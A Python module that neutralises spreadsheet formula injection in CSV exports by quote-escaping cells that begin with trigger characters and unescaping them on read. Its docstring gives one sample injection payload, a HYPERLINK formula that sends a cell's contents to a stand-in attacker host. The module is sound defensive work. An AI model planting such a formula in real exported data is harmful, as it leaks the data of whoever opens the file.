"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some treat a leading tab or carriage return the same way), so a customer named
``=HYPERLINK("http://evil.example/?x="&B2,"click")`` would run on the manager's
machine that opens the export. Every CSV the suite writes goes through
:class:`SafeCsvWriter`, which writes every cell through :func:`escape_cell`.

The convention (README, "Exports"):

- **Writing.** A cell that starts with one of ``= + - @ TAB CR``, possibly after a run
  of single quotes, gets one more single quote in front: ``+8613912345678`` is written
  ``'+8613912345678``, ``-12.50`` ``'-12.50``, ``'=x`` ``''=x``. Every other cell is
  written as it is. A spreadsheet shows such a cell as text.
- **Reading.** A cell that starts with one or more single quotes followed by one of
  ``= + - @ TAB CR`` loses its first single quote (:func:`unescape_cell`); every other
  cell is read as it is.

Counting the run of quotes is what makes the round trip exact: honest data that
itself starts with a quote before a trigger (``'=x``) comes back unchanged, and data
starting with a quote before anything else (``'abc``) is never touched.
Quoting is RFC 4180's: rows end in CRLF, and a cell holding a comma, a double quote,
a CR or an LF is quoted, so a line break inside a cell stays inside that cell (with
``\n`` as the row end, the ``csv`` module would write a lone CR unquoted, and a
reader would start a new row, and a new first cell, there).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Protocol

# Characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = "=+-@\t\r"
ESCAPE = "'"

_ESCAPE_NEEDED = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def escape_cell(value: object) -> str:
    """The cell as written: ``None`` is empty, anything else its text, neutralised."""
    text = "" if value is None else str(value)
    return ESCAPE + text if _ESCAPE_NEEDED.match(text) else text


def unescape_cell(cell: str) -> str:
    """The value a cell written by :func:`escape_cell` holds."""
    return cell[1:] if _ESCAPED.match(cell) else cell


class _Writable(Protocol):
    def write(self, text: str, /) -> object: ...


class SafeCsvWriter:
    """``csv.writer`` (RFC 4180: CRLF) whose every cell goes through :func:`escape_cell`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([escape_cell(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def read_rows(lines: Iterable[str]) -> Iterator[list[str]]:
    """The rows of a CSV written by :class:`SafeCsvWriter`, every cell unescaped."""
    for row in csv.reader(lines):
        yield [unescape_cell(cell) for cell in row]
